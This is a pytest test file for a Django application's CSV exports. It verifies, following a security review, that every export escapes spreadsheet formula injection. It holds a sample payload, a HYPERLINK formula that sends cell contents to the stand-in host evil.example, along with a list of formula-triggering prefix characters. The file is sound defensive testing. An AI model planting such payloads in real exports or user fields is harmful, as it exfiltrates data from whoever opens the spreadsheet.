"""CSV/formula injection (security review, issue 9 item 13): every CSV export
neutralises text cells that a spreadsheet would run as a formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import CasusFactory, MeldingFactory, OrganisationFactory, PersonFactory
from tests.network.factories import ServiceFactory, propose
from vangnet.core import csv_export

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"klik")'


# --- the helper ------------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS)
def test_dangerous_text_gets_a_leading_quote(start):
    assert csv_export.safe_cell(start + PAYLOAD) == "'" + start + PAYLOAD


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.25"), 0, None, "", "Politie", "50,0", "'=al veilig"])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert csv_export.safe_cell(value) == value


@given(st.text())
def test_no_written_text_cell_can_start_a_formula(text):
    out = io.StringIO()
    csv_export.writer(out, delimiter=";").writerow([text, 7])
    [cell, number] = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert not cell.startswith(tuple(DANGEROUS)) and number == "7"
    assert cell == text or cell == "'" + text  # nothing else is changed


# --- every CSV export URL -------------------------------------------------------------------


def _plant_network(ggd, users, monkeypatch, text):
    """A partner organisation whose name is the payload, with a referral from the GGD."""
    service = ServiceFactory(organisation=OrganisationFactory(name=text, kind="ggz", does_bemoeizorg=False))
    propose(CasusFactory(organisation=ggd, casusregisseur=users["bemoeizorger"]), service, users["bemoeizorger"])
    return reverse("network:figures_csv")


def _plant_wvggz(ggd, users, monkeypatch, text):
    """The Wvggz export has only fixed labels and numbers; a planted label proves its writer is the safe one."""
    from vangnet.wvggz import views

    monkeypatch.setattr(views, "FIGURE_ROWS", [*views.FIGURE_ROWS, ("meldingen", text)])
    return reverse("wvggz:figures_csv") + "?van=2026-01-01&tot=2026-12-31"


def _plant_meldingen_list(ggd, users, monkeypatch, text):
    """The betrokkene as the melder described him: free text typed at the meldpunt."""
    MeldingFactory(meldpunt=ggd, given_names="", tussenvoegsel="", surname=text)
    return reverse("intake:list_export")


def _plant_casussen_list(ggd, users, monkeypatch, text):
    person = PersonFactory(given_names="", roepnaam="", tussenvoegsel="", surname=text)
    CasusFactory(organisation=ggd, person=person, casusregisseur=users["bemoeizorger"])
    return reverse("cases:list_export")


def _plant_monitor(ggd, users, monkeypatch, text):
    """The monitor's export has fixed labels and numbers; a planted label proves its writer is the safe one."""
    from vangnet.monitor import report

    monkeypatch.setitem(report.LABELS, "meldingen_ontvangen", text)
    return reverse("monitor:export_csv") + "?van=2026-01-01&tot=2026-06-30"


EXPORTS = {
    "network:figures_csv": _plant_network,
    "wvggz:figures_csv": _plant_wvggz,
    "monitor:export_csv": _plant_monitor,
    "intake:list_export": _plant_meldingen_list,
    "cases:list_export": _plant_casussen_list,
}


def _csv_url_names(resolver=None, namespace=""):
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            yield from _csv_url_names(p, f"{namespace}{p.namespace}:" if p.namespace else namespace)
        elif isinstance(p, URLPattern) and "csv" in str(p.pattern).lower():
            yield f"{namespace}{p.name}"


def test_the_table_covers_every_csv_export():
    assert set(_csv_url_names()) == set(EXPORTS)


@pytest.mark.django_db
@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_neutralises_formula_cells(name, start, ggd, users, login, monkeypatch):
    text = start + PAYLOAD
    url = EXPORTS[name](ggd, users, monkeypatch, text)
    response = login(users["teamleider"]).get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(response.content.decode()), delimiter=";") for c in row]
    assert "'" + text in cells  # the planted text arrived, neutralised
    assert not [c for c in cells if c.startswith(tuple(DANGEROUS))]
